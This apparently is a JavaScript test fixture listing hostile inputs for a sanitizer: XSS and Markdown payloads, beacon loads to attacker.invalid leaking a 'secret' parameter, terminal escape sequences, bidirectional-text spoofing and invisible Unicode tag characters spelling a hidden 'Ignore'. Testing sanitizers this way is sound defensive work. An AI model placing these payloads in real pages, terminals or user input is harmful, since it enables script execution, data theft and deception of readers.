// SPDX-License-Identifier: Apache-2.0
// Text that tries to run, to load, to hide or to break out. A script that ran would set window.pwned or ask for
// http://attacker.invalid; both are watched.
const mark = 'window.pwned=1';

export const hostile = [
  `<img src=x onerror="${mark}">`,
  `<script>${mark}</script>`,
  `"><svg/onload=${mark}>`,
  `<iframe srcdoc="<script>parent.${mark}</script>"></iframe>`,
  `<a href="javascript:${mark}">click</a>`,
  `[click](javascript:${mark})`,
  `![pixel](http://attacker.invalid/p.png?q=secret)`,
  `<link rel=stylesheet href=http://attacker.invalid/a.css>`,
  `<style>@import url(http://attacker.invalid/b.css);</style>`,
  `<div style="background:url(http://attacker.invalid/c.png)">x</div>`,
  `<form action=http://attacker.invalid><button formaction="javascript:${mark}">go</button></form>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${mark}></style></mglyph></table></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${mark}>"></noscript>`,
  `<template><img src=x onerror=${mark}></template>`,
  `<object data="data:text/html,<script>${mark}</script>"></object>`,
  `<base href="http://attacker.invalid/"><meta http-equiv=refresh content="0;url=http://attacker.invalid/">`,
  `<details open ontoggle=${mark}><summary>x</summary></details>`,
  `<input autofocus onfocus=${mark}>`,
  `<video src=http://attacker.invalid/v.mp4 autoplay onerror=${mark}></video>`,
  `<a href="data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+">data</a>`,
  `[ref]: javascript:${mark} "title"\n\n[ref]`,
  `<x onclick=${mark} tabindex=0 id=app>clobber</x><form name=body><input name=appendChild></form>`,
  '```html\n<script>' + mark + '</script>\n```',
  '`<img src=x onerror=' + mark + '>`',
  `{{constructor.constructor('${mark}')()}} \${${mark}} <%= ${mark} %>`,
  '\u001b]8;;http://attacker.invalid\u0007link\u001b]8;;\u0007\u001b[31mred\u001b[2J\u001b[H',
  'admin\u202e}\u2066 if isAdmin\u2069 \u2066begin',
  '\u0000\u0008\u007f\u0085\u2028\u2029\ufeff',
  'zero\u200bwidth\u200djoin\u2060er',
  '\ud800 lone surrogate \udfff',
  'a'.repeat(5000),
  '> '.repeat(400) + 'deep',
  '[['.repeat(2000),
  '|'.repeat(300) + '\n' + '|-'.repeat(300),
  // Markdown
  '![a][b]\n\n[b]: http://attacker.invalid/r.png',
  '[![x](http://attacker.invalid/i.png)](javascript:' + mark + ')',
  `[a](javas&#99;ript:${mark}) [b](&#x6A;avascript:${mark}) [c](//attacker.invalid) [d](vbscript:x)`,
  `<http://attacker.invalid/"onmouseover=${mark}>`,
  `![x](data:image/svg+xml,<svg/onload=${mark}>)`,
  `[x]: data:text/html,<script>${mark}</script>\n[x] [x][] ![x]`,
  `| a | b |\n| - | - |\n| <img src=x onerror=${mark}> | ![p](http://attacker.invalid/t.png) |`,
  `- [ ] <script>${mark}</script>\n- [x] <iframe src=javascript:${mark}>`,
  // terminals
  '\u001b]0;a title\u0007 \u001b]52;c;cHduZWQ=\u0007 \u009b31m \u001bP$q\u001b\\\\ \u001b[1A\u001b[2K\u001b[8mhidden',
  'safe.sh\b\b\b\b\b\b\bevil.sh\roverwritten',
  // directions, and what has no width or no shape
  'invoice\u202efdp.exe \u2067right to left\u2069 \u061c\u200f\u200e',
  'if (role != "user\u202e \u2066// admins only\u2069 \u2066") {',
  'so\u00adft \u034f \u115f\u1160 \u180e \u3164 \u2800 \uffa0 \ufff9\ufffb',
  'tags: \u{e0049}\u{e0067}\u{e006e}\u{e006f}\u{e0072}\u{e0065}',
];

export const hostileText = hostile.join('\n\n');
